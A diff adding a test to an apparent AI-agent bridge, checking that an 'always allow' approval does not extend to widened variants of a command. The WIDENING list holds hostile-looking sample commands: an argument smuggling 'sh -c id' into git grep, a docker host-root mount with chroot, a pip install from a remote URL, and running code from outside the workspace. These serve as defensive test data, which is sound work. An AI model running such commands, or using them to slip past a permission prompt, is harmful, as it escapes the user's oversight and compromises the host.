@@ -119,6 +119,45 @@ async def test_allow_always_is_not_asked_again(harness: Harness) -> None:
     assert validator.problems == []
 
 
+#: The issue's five: after "always allow" of the first, the second is asked again.
+WIDENING = [
+    ("git grep TODO", 'git grep -O"sh -c id" TODO'),
+    ("git log -1", "git log --output=/tmp/agybridge-never-written"),
+    ("docker run --rm hello-world", "docker run --rm -v /:/host alpine chroot /host"),
+    ("pip install requests", "pip install https://example.invalid/x.tar.gz"),
+    ("go run main.go", "go run ../elsewhere/x.go"),
+]
+
+
+async def test_always_allow_does_not_cover_commands_that_widen_it(harness: Harness) -> None:
+    """Each of the issue's five pairs: the option text says what "always" covers, the
+    approved command is not asked again, the widening variant is."""
+    with trio.fail_after(TIMEOUT_S):
+        async with harness.open_bridge() as client:
+            client.permission_choice = "allow_always"
+            await client.initialize()
+            for approved, widened in WIDENING:
+                session_id = await client.new_session()
+                prompt = "[fake-agy:gated-command] "
+                await run_prompt(client, session_id, prompt + approved)
+                [asked] = client.permission_requests
+                always = asked["params"]["options"][1]["name"]
+                prefix = " ".join(approved.split()[:2])
+                assert always.startswith(f"Always allow `{prefix}` commands with "), always
+                assert "inside the workspace" in always
+                await run_prompt(client, session_id, prompt + approved)
+                assert len(client.permission_requests) == 1
+                await run_prompt(client, session_id, prompt + widened)
+                assert len(client.permission_requests) == 2, (approved, widened)
+                assert (
+                    client.permission_requests[1]["params"]["toolCall"]["rawInput"]["CommandLine"]
+                    == widened
+                )
+                client.permission_requests.clear()
+        assert [v for _, v in hook_verdicts(harness)] == ["allow"] * 15
+        await harness.assert_no_leftovers()
+
+
 async def test_cancel_while_a_permission_is_pending(harness: Harness) -> None:
     """session/cancel with a question open: the hook is answered deny at once,
     the prompt answers cancelled within a second, nothing is left running."""
